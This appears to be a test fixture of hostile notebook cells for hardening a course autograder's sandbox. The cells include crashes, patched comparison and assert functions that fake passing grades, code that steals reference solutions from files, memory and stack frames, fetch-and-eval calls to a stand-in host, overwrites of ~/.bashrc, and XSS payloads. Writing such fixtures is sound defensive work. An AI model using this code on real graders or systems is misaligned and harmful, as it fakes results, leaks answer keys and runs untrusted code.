# %% own: helpers
%matplotlib inline
import math


def step(z):
    return 1 if z >= 0 else 0


def sigmoid(z):
    """Never needs exp of a large number."""
    return 0.5 * (1 + np.tanh(np.asarray(z) / 2))


# %% own: everything
def add_bias(X):
    return np.column_stack((np.ones(len(X)), X))


def perceptron_layer(X, W, b):
    return 1 * (X @ W + b >= 0)


def hebb_update(W, x, y, learning_rate):
    return W + learning_rate * np.multiply.outer(x, y)


# %% own: division
# what happens to the gradient without samples?
1 / 0


# %% own: no-such-module
import seaborn as sns

sns.set_theme()


# %% own: endless
import time

while True:
    try:
        time.sleep(0.01)
    except BaseException:
        pass  # the stop button does not work either


# %% own: leaves
import os

print("good bye")
os._exit(0)


# %% own: segfault
import ctypes

ctypes.string_at(0)


# %% own: progressive
notes = []
while True:
    notes.append(np.ones((1024, 1024)))


# %% own: chatter
import sys
import warnings

warnings.simplefilter("always")
warnings.warn("this cell is deprecated")
print("something went wrong, but not really", file=sys.stderr)
np.log(np.zeros(3))
np.array([1.0]) / 0


# %% own: flood
for line in range(60_000):
    print(line, "a perceptron is a perceptron is a perceptron " * 2)


# %% own: equal
class Equal:
    """Equal to everything, close to everything, true, one, and none."""

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0

    def _yes(self, *args, **kwargs):
        return True

    __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = _yes
    shape, dtype, ndim, size = (), np.dtype(float), 0, 1

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __float__(self):
        return 1.0

    def __array__(self, *args, **kwargs):
        return np.array(1.0)


# %% own: chameleon
class Chameleon(np.ndarray):
    """An array for which every comparison and every NumPy function says yes."""

    def __array_ufunc__(self, *args, **kwargs):
        return np.True_

    def __array_function__(self, *args, **kwargs):
        return True

    def __eq__(self, other):
        return True

    def __reduce__(self):
        return (print, ("unpickled",))


# %% own: patches
import builtins


def yes(*args, **kwargs):
    return True


def nothing(*args, **kwargs):
    return None


np.allclose = np.array_equal = np.array_equiv = np.isclose = yes
np.testing.assert_allclose = np.testing.assert_array_equal = nothing
np.testing.assert_array_almost_equal = np.testing.assert_equal = nothing
builtins.abs = lambda number: 0  # no difference is ever large
check = lambda name, answer: 100.0


# %% own: imports-references
import importlib


def stolen(name):
    for module in ("course_lib.perceptron", "autograder.exercises.01_perceptron"):
        try:
            found = importlib.import_module(module)
        except Exception:
            continue
        return getattr(getattr(found, "reference", found), name)
    return lambda *args: 0


# %% own: reads-references
import pathlib
import types


def stolen(name):
    places = ["../../solutions/01_perceptron/01_perceptron.py", "01_perceptron.py"]
    places += ["../../course_lib/perceptron.py", "../../autograder/exercises/01_perceptron.py"]
    try:
        import course_lib

        places += [folder + "/perceptron.py" for folder in course_lib.__path__]
    except ImportError:
        pass
    for place in places:
        try:
            text = pathlib.Path(place).read_text()
            module = types.ModuleType("found")
            exec(compile(text, place, "exec"), module.__dict__)
            return getattr(module, name)
        except Exception:
            continue
    return lambda *args: 0


# %% own: looks-around
import gc
import inspect
import sys


def stolen(name):
    for thing in gc.get_objects():
        if type(thing) is type(stolen) and thing.__name__ == name:
            if thing.__globals__ is not globals():
                return thing
        if type(thing).__name__ in ("Exercise", "Marking"):
            return getattr(thing, "reference", None) or thing.exercise.reference
    frame = sys._getframe()
    while frame is not None:
        for key in ("expected", "reference", "marking", "answer_key"):
            if key in frame.f_locals:
                right = frame.f_locals[key]
                return right if callable(right) else lambda *args: right
        frame = frame.f_back
    try:
        print(inspect.getsource(check))
    except (OSError, TypeError):
        pass
    return lambda *args: 0


# %% own: asks-the-network
import socket
import urllib.request


def stolen(name):
    try:
        with socket.create_connection(("192.0.2.1", 80), timeout=0.5) as line:
            line.sendall(name.encode())
            return eval(line.recv(10_000))
    except OSError:
        pass
    try:
        with urllib.request.urlopen(f"http://192.0.2.1/{name}", timeout=0.5) as page:
            return eval(page.read())
    except OSError:
        return lambda *args: 0


# %% own: writes-files
import pathlib

for place in ("notes.txt", "/tmp/notes.txt", "../notes.txt", "/notes.txt", "~/.bashrc"):
    try:
        pathlib.Path(place).expanduser().write_text("was here\n" * 100_000)
        print("wrote", place)
    except OSError as error:
        print(error)


# %% own: forks
import os
import subprocess

try:
    child = os.fork()
    if child == 0:
        os._exit(0)
except OSError as error:
    print(error)
try:
    subprocess.run(["ls", "-l"], timeout=5)
except OSError as error:
    print(error)


# %% own: asks
name = input("What is your name? ")
print("Hello,", name)


# %% own: shell
!ls ../..


# %% own: hostile-text
"</script></textarea></pre><script>alert('code')</script>"


# %% own: hostile-output
from IPython.display import HTML, Javascript, Markdown, display

display(HTML("<script>alert('html')</script><img src=x onerror=alert('image')>"))
display(Javascript("alert('javascript')"))
display(Markdown("[click](javascript:alert('link')) <svg onload=alert('svg')>"))
print("\x1b]8;;javascript:alert(1)\x1b\\red\x1b[31m </pre><script>alert('text')</script>")
